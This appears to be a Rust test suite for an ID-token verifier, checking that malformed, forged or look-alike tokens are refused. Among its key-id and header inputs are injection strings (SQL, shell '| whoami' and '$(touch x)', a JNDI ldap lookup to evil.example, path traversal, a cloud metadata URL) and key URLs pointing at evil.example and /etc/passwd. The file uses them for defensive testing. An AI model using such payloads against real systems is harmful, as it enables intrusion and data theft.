//! Sections 3.7 to 3.12: what a token says.

use serde_json::{Value, json};
use service::TokenError;
use time::Duration;

use super::{believed, encode, fred, header_with, outcome, refused, token_with};
use crate::{
    issuer::{CLIENT, EC, EC_2, ISSUER, Keys, NOW, RSA, RSA_2, claims_with, now},
    token::both,
};

#[tokio::test]
async fn section_3_7_only_utf_8_is_read() {
    let utf16 = |text: &str, big: bool| -> Vec<u8> {
        let bytes = |unit: u16| if big { unit.to_be_bytes() } else { unit.to_le_bytes() };
        text.encode_utf16().flat_map(bytes).collect()
    };
    // Bytes in place of "?", in a claim that is read and in one that isn't.
    let with_bytes = |claim: &str, bytes: &[u8]| {
        let text = claims_with(&json!({claim: "?"})).to_string();
        let (before, after) = text.split_once('?').unwrap();
        [before.as_bytes(), bytes, after.as_bytes()].concat()
    };
    for key in both() {
        let (header, text) = (key.header().to_string(), fred().to_string());
        for (claims, what) in [
            (utf16(&text, false), "UTF-16, little end first"),
            (utf16(&text, true), "UTF-16, big end first"),
            ([&b"\xff\xfe"[..], &utf16(&text, false)].concat(), "UTF-16 with its mark"),
            ([b"\xef\xbb\xbf", text.as_bytes()].concat(), "UTF-8 with a mark"),
            (with_bytes("name", b"\xe9"), "Latin-1 in the name"),
            (with_bytes("sub", b"\xe9"), "Latin-1 in the subject"),
            (with_bytes("picture", b"\xe9"), "Latin-1 where nobody reads"),
            (with_bytes("picture", b"\xc0\xaf"), "an overlong slash"),
            (with_bytes("picture", b"\xed\xa0\x80"), "half of a surrogate pair"),
            (with_bytes("picture", b"\xf5\x80\x80\x80"), "beyond Unicode"),
            (with_bytes("name", b"a\0b"), "a bare control character"),
            (with_bytes("name", br"\ud800"), "half of an escaped pair"),
        ] {
            refused(&key.sign_bytes(&header, claims), TokenError::Claims, what).await;
        }
        for header in [utf16(&header, false), [b"\xef\xbb\xbf", header.as_bytes()].concat()] {
            refused(&key.sign_bytes(header, &text), TokenError::Header, "a header in another encoding").await;
        }
        let header = header_with(key, &json!({"x": "?"}));
        let (before, after) = header.split_once('?').unwrap();
        let latin = [before.as_bytes(), b"\xe9", after.as_bytes()].concat();
        refused(&key.sign_bytes(latin, &text), TokenError::Header, "Latin-1 in the header").await;
    }
}

#[tokio::test]
async fn section_3_8_issuer_and_subject_are_compared_to_the_letter() {
    let issuers = [
        "https://pets.example.auth0.com",
        "https://pets.example.auth0.com//",
        "https://pets.example.auth0.com/.",
        "https://pets.example.auth0.com/?",
        "https://pets.example.auth0.com/#",
        "https://pets.example.auth0.com:443/",
        "https://user@pets.example.auth0.com/",
        "https://pets.example.auth0.com./",
        "https://pets.example.auth0.com.evil.example/",
        "https://PETS.example.auth0.com/",
        "http://pets.example.auth0.com/",
        " https://pets.example.auth0.com/",
        "https://pets.example.auth0.com/\0",
        "https://pets.ex\u{430}mple.auth0.com/",
    ];
    for issuer in issuers {
        refused(&EC.token(&claims_with(&json!({"iss": issuer}))), TokenError::Issuer, issuer).await;
    }
    // Another issuer's key, however its token is addressed.
    let names_ours = EC_2.token(&fred());
    refused(&names_ours, TokenError::UnknownKey, "another issuer's key").await;
    let as_ours = EC_2.sign_bytes(EC.header().to_string(), fred().to_string());
    refused(&as_ours, TokenError::Signature, "another issuer's key, by the name of ours").await;

    let subjects = ["", "amazon|fred\0", "\u{feff}amazon|fred", "amazon|fr\u{435}d", "amazon|fred\u{301}", "a\u{a0}b"];
    for sub in subjects {
        refused(&EC.token(&claims_with(&json!({"sub": sub}))), TokenError::Subject, sub).await;
    }
    for sub in ["amazon|Fred", "amazon|fred ", "Amazon|fred"] {
        let verifier = Keys::of(&[&EC]).verifier();
        let identity = verifier.verify(&EC.token(&claims_with(&json!({"sub": sub}))), now()).await.unwrap();
        assert_eq!(identity.sub, sub, "another person than amazon|fred, and nothing is trimmed or folded");
    }
}

#[tokio::test]
async fn section_3_9_a_token_for_others_is_refused() {
    let audiences = [
        json!("pets-spa/"),
        json!("pets-sp"),
        json!("pets-spa,other"),
        json!("pets-spa other"),
        json!("*"),
        json!(""),
        json!("pets-spa\0"),
        json!("p\u{435}ts-spa"),
        json!(["", "*"]),
        json!(["https://api.example.com/", "https://pets.example.auth0.com/userinfo"]),
        json!(vec!["other"; 200]),
    ];
    for audience in audiences {
        refused(&EC.token(&claims_with(&json!({"aud": audience}))), TokenError::Audience, "aud").await;
    }
    for audience in [json!([[CLIENT]]), json!({"aud": CLIENT}), json!(true), json!(null), json!(0)] {
        refused(&EC.token(&claims_with(&json!({"aud": audience}))), TokenError::Claims, "aud of another type").await;
    }
    let for_others = claims_with(&json!({"aud": [CLIENT, "other"], "azp": "other"}));
    refused(&EC.token(&for_others), TokenError::AuthorizedParty, "azp").await;
}

/// What a header brings along chooses no key, and nothing in it is asked for.
#[tokio::test]
async fn section_3_10_a_token_brings_no_key_along() {
    let evil = "https://evil.example/keys.json";
    for (key, attacker) in [(&*RSA, &*RSA_2), (&*EC, &*EC_2)] {
        let keys = Keys::of(&[&RSA, &EC]);
        let verifier = keys.verifier();
        for header in [
            json!({"jku": evil}),
            json!({"jku": "file:///etc/passwd"}),
            json!({"x5u": evil}),
            json!({"jwk": attacker.jwk}),
            json!({"x5c": ["MIIB"], "x5t": "AAAA", "x5t#S256": "AAAA"}),
            json!({"jku": evil, "x5u": evil, "jwk": attacker.jwk, "x5c": []}),
        ] {
            let own = key.sign_bytes(header_with(key, &header), fred().to_string());
            assert!(verifier.verify(&own, now()).await.is_ok(), "ignored beside a good signature: {header}");
            let forged = attacker.sign_bytes(header_with(key, &header), fred().to_string());
            let outcome = verifier.verify(&forged, now()).await.map(|_| ());
            assert_eq!(outcome, Err(TokenError::Signature), "{header}");
            let named = attacker.sign_bytes(header_with(attacker, &header), fred().to_string());
            let outcome = verifier.verify(&named, now()).await.map(|_| ());
            assert_eq!(outcome, Err(TokenError::UnknownKey), "{header}");
        }
        assert_eq!(keys.count(), 1, "the issuer was asked, and nobody else can be");
    }
}

#[tokio::test]
async fn section_3_10_a_key_id_is_only_compared() {
    let long = "x".repeat(10_000);
    let kids = [
        "../../../../dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "x' UNION SELECT 'secret' --",
        "1; DROP TABLE pets",
        "| whoami",
        "$(touch x)",
        "${jndi:ldap://evil.example/x}",
        "https://evil.example/keys.json",
        "http://169.254.169.254/latest/meta-data/",
        "*",
        ".*",
        "%2e%2e%2f",
        "rsa-1\0",
        "rsa-1 ",
        "RSA-1",
        "",
        "\u{202e}1-asr",
        &long,
    ];
    for kid in kids {
        for key in both() {
            refused(&token_with(key, &json!({"kid": kid})), TokenError::UnknownKey, "kid").await;
        }
    }
    for kid in [json!(1), json!(["rsa-1"]), json!({"rsa-1": 1}), json!(true)] {
        refused(&token_with(&RSA, &json!({"kid": kid})), TokenError::Header, "kid of another type").await;
    }
}

/// Whoever makes up key ids has the issuer asked once a minute, and nobody else waits or is refused meanwhile.
#[tokio::test]
async fn section_3_10_a_flood_of_key_ids_costs_the_issuer_nothing() {
    let keys = Keys::of(&[&EC]);
    let verifier = keys.verifier();
    let good = EC.token(&fred());
    let (_, rest) = good.split_once('.').unwrap();
    for n in 0..1200 {
        let at = now() + Duration::milliseconds(100 * n);
        let header = encode(header_with(&EC, &json!({"kid": format!("made-up-{n}")})));
        let made_up = format!("{header}.{rest}");
        assert_eq!(verifier.verify(&made_up, at).await.map(|_| ()), Err(TokenError::UnknownKey));
        if n % 100 == 0 {
            assert!(verifier.verify(&good, at).await.is_ok());
        }
    }
    assert_eq!(keys.count(), 2, "once at first, and once in the two minutes of the flood");
}

#[tokio::test]
async fn section_3_10_a_number_is_only_a_time() {
    let check = async |claim: &str, number: &str, expected: Result<(), TokenError>| {
        let mut claims = claims_with(&json!({"iat": NOW - 7200}));
        claims[claim] = json!("?");
        let claims = claims.to_string().replace("\"?\"", number);
        let token = EC.sign_bytes(EC.header().to_string(), claims);
        assert_eq!(outcome(&token).await, expected, "{claim}: {number}");
    };
    let expired = || Err(TokenError::Expired);
    let unreadable = || Err(TokenError::Claims);
    for (number, expected) in [
        (format!("{}.5", NOW - 60), Ok(())),
        (format!("{}.5", NOW - 61), expired()),
        (format!("{}e-1", (NOW + 60) * 10), Ok(())),
        ("-1".to_owned(), expired()),
        ("-0.0".to_owned(), expired()),
        ("-9223372036854775809".to_owned(), expired()),
        ("-1e308".to_owned(), expired()),
        ("1e-400".to_owned(), expired()),
        // The issuer's own word, however far: none of these overflows into the past, or stops anything.
        ("9007199254740993".to_owned(), Ok(())),
        ("9223372036854775808".to_owned(), Ok(())),
        ("18446744073709551616".to_owned(), Ok(())),
        ("1e308".to_owned(), Ok(())),
        ("1e400".to_owned(), unreadable()),
        ("NaN".to_owned(), unreadable()),
        ("Infinity".to_owned(), unreadable()),
        ("0x7fffffff".to_owned(), unreadable()),
        ("01800003600".to_owned(), unreadable()),
        ("+1800003600".to_owned(), unreadable()),
        ("\"1800003600\"".to_owned(), unreadable()),
        ("[1800003600]".to_owned(), unreadable()),
        ("true".to_owned(), unreadable()),
    ] {
        check("exp", &number, expected).await;
    }
    check("nbf", "1e308", Err(TokenError::NotYetValid)).await;
    check("nbf", "-1e308", Ok(())).await;
    check("iat", "1e308", Err(TokenError::IssuedAt)).await;
    check("iat", "-1e308", Ok(())).await;
    check("iat", "1e400", unreadable()).await;
}

/// A reader who takes the first of two, and one who takes the last, must not be told different things.
#[tokio::test]
async fn section_3_10_nothing_is_said_twice() {
    let text = fred().to_string();
    let inside = text.strip_prefix('{').unwrap();
    for double in [
        r#""sub":"auth0|1""#,
        r#""s\u0075b":"auth0|1""#,
        r#""exp":1e300"#,
        r#""aud":["other"]"#,
        r#""azp":null,"azp":"pets-spa""#,
        r#""nbf":0,"nbf":0"#,
        r#""amr":["pwd"]"#,
        r#""email":"a@b""#,
    ] {
        let token = EC.sign_bytes(EC.header().to_string(), format!("{{{double},{inside}"));
        refused(&token, TokenError::Claims, double).await;
    }
    for header in [
        r#"{"alg":"ES256","kid":"ec-1","alg":"ES256"}"#,
        r#"{"alg":"ES256","kid":"ec-1","\u0061lg":"none"}"#,
        r#"{"alg":"ES256","kid":"ec-1","typ":"JWT","typ":"at+jwt"}"#,
        r#"{"alg":"ES256","kid":"ec-1","crit":[],"crit":[]}"#,
    ] {
        refused(&EC.sign_bytes(header, &text), TokenError::Header, header).await;
    }
    // Serde would take a list's items for the members in their order.
    let list = json!([ISSUER, "amazon|fred", CLIENT, NOW + 3600, NOW - 10, null, null, [], "fred", null, null, null]);
    refused(&EC.sign_bytes(EC.header().to_string(), list.to_string()), TokenError::Claims, "claims in a list").await;
    let list = json!(["ES256", "ec-1", "JWT"]);
    refused(&EC.sign_bytes(list.to_string(), &text), TokenError::Header, "a header in a list").await;
    // Deep where nobody looks, and where somebody does.
    let deep = |depth: usize| format!("{}{}", "[".repeat(depth), "]".repeat(depth));
    for (claim, depth, expected) in
        [("picture", 2000, Ok(())), ("name", 2000, Err(TokenError::Claims)), ("aud", 2000, Err(TokenError::Claims))]
    {
        let claims = claims_with(&json!({claim: "?"})).to_string().replace("\"?\"", &deep(depth));
        assert_eq!(outcome(&EC.sign_bytes(EC.header().to_string(), claims)).await, expected, "{claim}");
    }
}

#[tokio::test]
async fn section_3_11_another_type_of_token_is_refused() {
    for typ in [Value::Null, json!("JWT"), json!("jwt")] {
        believed(&token_with(&EC, &json!({"typ": typ})), "an ID token's type").await;
    }
    for typ in [
        "at+jwt",
        "AT+JWT",
        "application/at+jwt",
        "logout+jwt",
        "secevent+jwt",
        "dpop+jwt",
        "oauth-authz-req+jwt",
        "token-introspection+jwt",
        "entity-statement+jwt",
        "client-authentication+jwt",
        "vc+sd-jwt",
        "JOSE",
        "JWT ",
        "JWT\0",
        "",
    ] {
        refused(&token_with(&EC, &json!({"typ": typ})), TokenError::Type, typ).await;
    }
    for typ in [json!(1), json!(["JWT"]), json!({})] {
        refused(&token_with(&EC, &json!({"typ": typ})), TokenError::Header, "typ of another type").await;
    }
}

/// Every other token that an issuer signs with the same keys, written as its specification has it, and without `typ`
/// to tell it by.
#[tokio::test]
async fn section_3_12_no_other_token_of_the_issuer_is_an_id_token() {
    let api = "https://api.example.com/";
    let times = json!({"iss": ISSUER, "iat": NOW - 10, "exp": NOW + 3600});
    let check = async |claims: Value, error: TokenError, what: &str| {
        let mut all = times.clone();
        all.as_object_mut().unwrap().extend(claims.as_object().unwrap().clone());
        for header in [json!({}), json!({"typ": null})] {
            refused(&EC.sign_bytes(header_with(&EC, &header), all.to_string()), error.clone(), what).await;
        }
    };
    let userinfo = "https://pets.example.auth0.com/userinfo";
    let access = json!({"sub": "amazon|fred", "aud": [api, userinfo], "azp": CLIENT, "scope": "openid"});
    check(access, TokenError::Audience, "an access token of Auth0").await;
    let access = json!({"sub": "amazon|fred", "aud": api, "client_id": CLIENT, "jti": "1", "scope": "openid"});
    check(access, TokenError::Audience, "an access token of RFC 9068").await;
    let machine = json!({"sub": "pets-spa@clients", "aud": api, "azp": CLIENT, "gty": "client-credentials"});
    check(machine, TokenError::Audience, "an access token of a machine").await;
    let access = json!({"sub": "amazon|fred", "client_id": CLIENT, "token_use": "access"});
    check(access, TokenError::Claims, "an access token without an audience").await;
    let logout = json!({"http://schemas.openid.net/event/backchannel-logout": {}});
    let logout = json!({"sub": "amazon|fred", "aud": CLIENT, "jti": "1", "events": logout});
    check(logout, TokenError::Type, "a logout token").await;
    let event = json!({"https://schemas.openid.net/secevent/caep/event-type/session-revoked": {"subject": {}}});
    let event = json!({"sub": "amazon|fred", "aud": CLIENT, "jti": "1", "events": event});
    check(event, TokenError::Type, "a security event").await;
    let answer = json!({"aud": CLIENT, "code": "x", "state": "y"});
    check(answer, TokenError::Claims, "an authorization response").await;
    let introspection = json!({"aud": CLIENT, "token_introspection": {"active": true, "sub": "amazon|fred"}});
    check(introspection, TokenError::Claims, "an answer about a token").await;
    let assertion = json!({"iss": CLIENT, "sub": CLIENT, "aud": ISSUER, "jti": "1"});
    check(assertion, TokenError::Issuer, "a client's assertion").await;
    let userinfo = json!({"iss": ISSUER, "aud": CLIENT, "sub": "amazon|fred", "name": "fred"}).to_string();
    refused(&EC.sign_bytes(EC.header().to_string(), userinfo), TokenError::Claims, "signed user information").await;
    // And an ID token for the refresh of another client, which differs by its audience alone.
    check(json!({"sub": "amazon|fred", "aud": "other-spa"}), TokenError::Audience, "another client's").await;
}
